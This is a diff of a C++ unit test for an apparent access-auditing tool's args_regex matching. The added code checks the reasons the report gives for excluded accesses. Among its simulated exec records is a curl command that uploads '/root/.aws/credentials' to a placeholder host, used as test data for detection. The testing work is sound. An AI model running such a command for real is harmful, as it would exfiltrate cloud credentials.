@@ -366,10 +366,13 @@ TEST_CASE("args_regex: an exec counts when the program's arguments match, as its
   test::Sequencer seqs;
   auto feed = [&](const test::RecordSpec& spec) { test::deliver(aggregate, seqs.next(spec)); };
   uint64_t excluded = 0;
+  S reasons;  // the report's excluded accesses
   auto paths = [&] {
     Summary s;
     aggregate.summarize(s);
     excluded = s.stats.excluded;
+    reasons.clear();
+    for (const ExcludedAccess& x : s.excluded) reasons.push_back(x.path + ": " + x.reason);
     S out;
     for (const RecipeSummary& r : s.recipes)
       for (const PathSummary& p : r.paths) out.push_back(p.path);
@@ -384,6 +387,7 @@ TEST_CASE("args_regex: an exec counts when the program's arguments match, as its
       test::exec(100, 1000, 1010, "/usr/bin/curl", {"curl", "-fsSL", "-o", "x.tgz", "https://example.com/x.tgz"}, 101));
   CHECK(paths().empty());
   CHECK(excluded == 1);
+  CHECK(reasons == S{"/usr/bin/curl: its arguments do not match the entry's args_regex"});
   // An upload by another process, that failed to start (no curl): the arguments are the intent.
   feed(test::access(200, 2000, "/usr/bin/curl", wire::op_exec, ENOENT));
   feed(test::exec(200, 2000, 2010, "/usr/bin/curl", {"curl", "-s", "--data-binary", "@/root/.aws/credentials", "x"}, 0,
